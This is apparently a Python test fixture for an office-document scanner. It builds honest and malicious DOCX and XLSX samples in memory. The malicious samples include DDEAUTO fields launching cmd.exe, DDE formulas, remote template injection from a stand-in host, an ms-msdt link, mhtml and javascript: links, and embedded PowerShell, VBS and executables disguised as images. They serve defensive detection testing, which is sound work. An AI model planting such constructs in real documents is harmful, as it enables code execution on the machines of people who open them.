"""DOCX and XLSX as Word, Excel and LibreOffice write them, and as they are made to do harm."""

import io
import zipfile
from collections.abc import Callable

from motcua.documents.inspection.verdict import Active
from tests.documents import factories

OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/>{more}</Types>'
)
_WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
_SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData>'
    "</worksheet>"
)


def packed(main: str, body: str, more: str = "", **entries: object) -> bytes:
    """A package; entries are parts by name, “__” standing for “/” and “·” for “.”."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _TYPES.format(more=more))
        package.writestr(main, body)
        for name, content in entries.items():
            package.writestr(name.replace("__", "/").replace("·", "."), content)  # type: ignore[arg-type]
    return written.getvalue()


def docx(
    body: str = "<w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p>", more: str = "", **entries: object
) -> bytes:
    return packed("word/document.xml", _WORD.format(body), more, **entries)


def xlsx(rows: str = '<row r="1"><c r="A1"><v>1</v></c></row>', more: str = "", **entries: object) -> bytes:
    return packed(
        "xl/workbook.xml",
        "<workbook/>",
        more,
        **{"xl__worksheets__sheet1·xml": _SHEET.format(rows)} | entries,
    )


def rels(kind: str, target: str, *, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<Relationships><Relationship Id="r1" Type="{_REL}{kind}" Target="{target}"{mode}/></Relationships>'
    )


def linked(kind: str, target: str, **how: bool) -> bytes:
    return docx(word___rels__document·xml·rels=rels(kind, target, **how))


def field(*parts: str) -> str:
    """A field of Word whose words are cut into runs."""
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{part}</w:instrText></w:r>" for part in parts)
    mark = "<w:r><w:fldChar w:fldCharType='{}'/></w:r>".format
    return f"<w:p>{mark('begin')}{runs}{mark('separate')}<w:r><w:t>1</w:t></w:r>{mark('end')}</w:p>"


def formula(text: str) -> str:
    return f'<row r="1"><c r="A1"><f>{text}</f><v>1</v></c></row>'


def utf16(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-16"?>{body}'.encode("utf-16")


HONEST: dict[str, Callable[[], bytes]] = {
    "a letter": docx,
    "a table": xlsx,
    "a letter as small as can be": factories.office,
    "a link to a website": lambda: linked("hyperlink", "https://dichvucong.gov.vn/"),
    "a link to write a letter": lambda: linked("hyperlink", "mailto:mot.cua@quangnam.gov.vn"),
    "a link to a file of the office": lambda: linked("hyperlink", "file:///\\\\maychu\\chung\\mau.docx"),
    "written on a template of its own machine": lambda: linked(
        "attachedTemplate", "file:///C:\\Users\\Lan\\AppData\\Roaming\\Microsoft\\Templates\\CongVan.dotm"
    ),
    "page numbers": lambda: docx(field(" PAGE ", "\\* MERGEFORMAT ")),
    "a table of contents": lambda: docx(field(' TOC \\o "1-3" \\h \\z \\u ')),
    "an address in a field that has the letters DDE": lambda: docx(
        field(' HYPERLINK "https://dde.quangnam.gov.vn/bieu-mau" ')
    ),
    "a picture": lambda: docx(word__media__image1·png=factories.PNG),
    "a chart with its table": lambda: docx(
        word__embeddings__Microsoft_Excel_Worksheet·xlsx=xlsx(),
        word__charts___rels__chart1·xml·rels=rels(
            "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", outside=False
        ),
    ),
    "a macro-free template's theme": lambda: docx(word__theme__theme1·xml="<a:theme xmlns:a='x'/>"),
    "formulas": lambda: xlsx(formula("SUM(A1:A9)*1,1")),
    "a bar within quotes": lambda: xlsx(formula("A1&amp;&quot; | &quot;&amp;B1")),
    "a bar in a text": lambda: xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>a|b\'c</t></is></c></row>'),
    "how it prints": lambda: xlsx(xl__printerSettings__printerSettings1·bin=b"\x48\0P\0" + b"\0" * 200),
    "looks up a table beside it": lambda: xlsx(
        xl__externalLinks___rels__externalLink1·xml·rels=rels("externalLinkPath", "Bang-gia.xlsx")
    ),
    "written in UTF-16": lambda: packed("word/document.xml", utf16(_WORD.format("")), ""),  # type: ignore[arg-type]
    "its main part under another name": lambda: packed(
        "word/document2.xml",
        _WORD.format(""),
        '<Override PartName="/word/document2.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.document.main+xml"/>',
    ),
}
MALICIOUS: dict[str, tuple[Callable[[], bytes], Active]] = {
    "a macro": (lambda: docx(word__vbaProject·bin=OLE), Active.MACRO),
    "a macro under another name": (
        lambda: docx(
            more='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            word__a·bin=b"x",
        ),
        Active.MACRO,
    ),
    "a macro by its link alone": (lambda: linked("vbaProject", "a.bin", outside=False), Active.MACRO),
    "a document that says it may have macros": (
        lambda: docx(
            more='<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
        ),
        Active.MACRO,
    ),
    "a macro of Excel 4.0": (
        lambda: xlsx(xl__macrosheets__sheet1·xml="<macrosheet/>"),
        Active.SHEET_MACRO,
    ),
    "an object": (lambda: docx(word__embeddings__oleObject1·bin=OLE), Active.EMBEDDED),
    "an object called a picture": (lambda: docx(word__media__image1·png=OLE), Active.EMBEDDED),
    "an old document inside": (lambda: docx(word__embeddings__a·doc=OLE), Active.EMBEDDED),
    "a macro two documents deep": (
        lambda: docx(word__embeddings__a·xlsx=xlsx(xl__vbaProject·bin=OLE)),
        Active.MACRO,
    ),
    "a page to be drawn in": (
        lambda: docx('<w:altChunk r:id="r1" xmlns:r="x"/>', word__a·html="<p>x</p>"),
        Active.EMBEDDED,
    ),
    "a control": (lambda: docx(word__activeX__activeX1·xml="<ax:ocx xmlns:ax='x'/>"), Active.CONTROL),
    "a program": (lambda: docx(word__media__a·exe=factories.EXE), Active.PROGRAM),
    "a program called a picture": (lambda: docx(word__media__a·png=factories.EXE), Active.PROGRAM),
    "a script for Windows": (lambda: docx(word__a·vbs="MsgBox 1"), Active.PROGRAM),
    "a page that is a program": (lambda: docx(word__a·hta="<script/>"), Active.PROGRAM),
    "a script of PowerShell": (lambda: docx(word__a·ps1="iwr x"), Active.PROGRAM),
    "a template of the web": (lambda: linked("attachedTemplate", "http://x.example/a.dotm"), Active.TEMPLATE),
    "a template of another machine": (
        lambda: linked("attachedTemplate", "file://10.0.0.9/chung/a.dotm"),
        Active.TEMPLATE,
    ),
    "a template of another machine, coded": (
        lambda: linked("attachedTemplate", "%5C%5C10.0.0.9%5Ca.dotm"),
        Active.TEMPLATE,
    ),
    "a picture of the web": (lambda: linked("image", "http://x.example/a.png"), Active.EXTERNAL),
    "a frame of the web": (lambda: linked("frame", "https://x.example/"), Active.EXTERNAL),
    "an object of the web": (
        lambda: linked("oleObject", "mhtml:http://x.example/a.html!x-usc:http://x.example/a.html"),
        Active.EXTERNAL,
    ),
    "a link to a tool of Windows": (
        lambda: linked("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        Active.EXTERNAL,
    ),
    "a link that is a script": (lambda: linked("hyperlink", "javascript:alert(1)"), Active.EXTERNAL),
    "a table of another machine": (
        lambda: xlsx(
            xl__externalLinks___rels__externalLink1·xml·rels=rels("externalLinkPath", "\\\\10.0.0.9\\a.xlsx")
        ),
        Active.EXTERNAL,
    ),
    "a text of another machine": (
        lambda: docx(field(' INCLUDETEXT "\\\\\\\\10.0.0.9\\\\a.docx" ')),
        Active.EXTERNAL,
    ),
    "DDE": (lambda: docx(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')), Active.DDE),
    "DDE cut in pieces": (lambda: docx(field(" D", "DE", "AUTO cmd ")), Active.DDE),
    "DDE in a simple field": (
        lambda: docx('<w:p><w:fldSimple w:instr=" dde excel a.xlsx "/></w:p>'),
        Active.DDE,
    ),
    "DDE by the numbers of its letters": (
        lambda: docx(field(" QUOTE 68 68 69 65 85 84 79 32 99 109 100 ")),
        Active.DDE,
    ),
    "DDE in a header": (
        lambda: docx(word__header1·xml=_WORD.format(field(" DDEAUTO cmd "))),
        Active.DDE,
    ),
    "DDE in UTF-16": (
        lambda: docx(word__header1·xml=utf16(_WORD.format(field(" DDEAUTO cmd ")))),
        Active.DDE,
    ),
    "DDE of a table": (
        lambda: xlsx(
            xl__externalLinks__externalLink1·xml="<externalLink><ddeLink ddeService='cmd'/></externalLink>"
        ),
        Active.DDE,
    ),
    "DDE in a formula": (lambda: xlsx(formula("cmd|'/c calc'!A0")), Active.DDE),
    "a query of the web": (
        lambda: xlsx(xl__connections·xml="<connections><connection id='1' type='4'/></connections>"),
        Active.CONNECTION,
    ),
}
